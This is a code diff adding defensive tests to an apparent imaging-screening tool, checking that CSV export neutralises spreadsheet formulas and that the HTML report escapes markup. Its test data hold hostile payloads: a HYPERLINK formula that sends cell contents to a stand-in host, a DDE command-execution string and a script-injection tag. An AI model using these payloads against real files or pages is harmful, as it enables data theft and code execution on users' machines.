@@ -334,3 +334,44 @@ def _unquote(link):
     from urllib.parse import unquote
 
     return unquote(link)
+
+
+class _NoBank:
+    meta = {"arrays_sha256": "0123456789abcdef"}
+
+    def __len__(self):
+        return 3
+
+
+HOSTILE_IDS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\tpadded", "\rreturned"]
+
+
+def test_scores_csv_cells_cannot_become_spreadsheet_formulas(tmp_path):
+    results = [screening.Result(screening.Study(name, tmp_path / f"s{i}.nii.gz"), "ok", volume_score=-1.5 + i,
+                                volume_percentile=10.0, notes=["=1+1 looks like a formula"])
+               for i, name in enumerate(HOSTILE_IDS)]
+    results.append(screening.Result(screening.Study("bad", tmp_path / "=evil().nii.gz"), "failed",
+                                    error="-bad input: cannot be read"))
+    path = screening.write_scores(screening.Screening(results, 1.0), tmp_path / "scores.csv")
+    rows = read_scores(path.parent)
+    assert [r["study"] for r in rows[:6]] == ["'" + name for name in HOSTILE_IDS]
+    assert all(r["notes"] == "'=1+1 looks like a formula" for r in rows[:6])
+    assert rows[-1]["error"] == "'-bad input: cannot be read" and rows[-1]["input"].startswith(str(tmp_path))
+    # Numbers stay numbers: a negative score is not a formula and is not quoted.
+    assert rows[0]["volume_score"] == "-1.5000" and rows[-2]["volume_score"] == "3.5000"
+
+
+def test_report_html_escapes_every_value_read_back_from_a_report(tmp_path):
+    # An earlier report.json is data from disk: any field of it may hold markup.
+    script = "<script>alert(1)</script>"
+    top = [{"slice": 1, "file_axis": "k", "file_index": script, "score": script, "percentile": 50.0},
+           {"slice": 2, "file_axis": script, "file_index": 3, "score": 1.25, "percentile": 50.0}]
+    result = screening.Result(screening.Study(script, tmp_path / "a.nii.gz"), "skipped", volume_score=2.0,
+                              volume_percentile=99.5, top_slices=top, notes=[script],
+                              outputs={"overview": f"x/{script}.png", "report": "x/a_report.json"})
+    page = screening.report_html(screening.Screening([result], 1.0), model=script, bank=_NoBank())
+    assert "<script" not in page
+    assert "k=&lt;script&gt;alert(1)&lt;/script&gt;: &lt;script&gt;" in page and "=3: 1.25" in page
+    path = screening.write_scores(screening.Screening([result], 1.0), tmp_path / "scores.csv")
+    assert read_scores(path.parent)[0]["top_slices"].startswith("k=<script>")
